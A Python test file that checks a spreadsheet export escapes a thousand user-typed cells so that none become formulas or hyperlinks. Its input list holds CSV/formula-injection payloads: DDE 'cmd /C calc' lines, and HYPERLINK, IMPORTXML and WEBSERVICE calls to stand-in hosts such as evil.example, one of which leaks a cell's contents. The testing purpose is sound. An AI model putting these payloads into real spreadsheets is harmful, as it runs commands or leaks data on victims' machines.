"""Lists as spreadsheets: whatever people typed is text, and nothing in them comes alive."""

from __future__ import annotations

import random
from io import BytesIO

from openpyxl import load_workbook

from web.workbooks import workbook_of

SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"Xem\")", "SUM(A1:A9)",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "WEBSERVICE(\"http://e.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "2+5+cmd|' /C calc'!A0", "{1+1}", "Nguyễn Thị Lan",
)  # fmt: skip


def hostile_cells() -> list[str]:
    """Return a thousand cells that a spreadsheet might take for a formula."""
    chance = random.Random(20261126)  # noqa: S311  # the same thousand each time
    cells = [sign + body for sign in SIGNS for body in BODIES]
    while len(cells) < 1000:
        cells.append(chance.choice(SIGNS) * chance.randint(1, 3) + chance.choice(BODIES))
    return cells[:1000]


def test_thousand_hostile_cells_make_no_formula() -> None:
    cells = hostile_cells()
    rows = [cells[n : n + 10] for n in range(0, 1000, 10)]

    made = workbook_of("Danh sách", [(f"Cột {n}", 20) for n in range(10)], rows)

    sheet = load_workbook(BytesIO(made)).active
    assert sheet is not None
    found = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(found) == 1000
    assert [cell.value for cell in found if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in found if not cell.quotePrefix] == []
    assert [cell.hyperlink for cell in found if cell.hyperlink] == []


def test_ordinary_words_are_left_as_they_are() -> None:
    made = workbook_of("Danh sách", [("Tên", 20)], [["Chi bộ Tổ dân phố 6"], ["26-118"]])

    sheet = load_workbook(BytesIO(made)).active
    assert sheet is not None
    assert [(cell.value, cell.quotePrefix) for cell in sheet["A"]] == [
        ("Tên", False),
        ("Chi bộ Tổ dân phố 6", False),
        ("26-118", False),
    ]
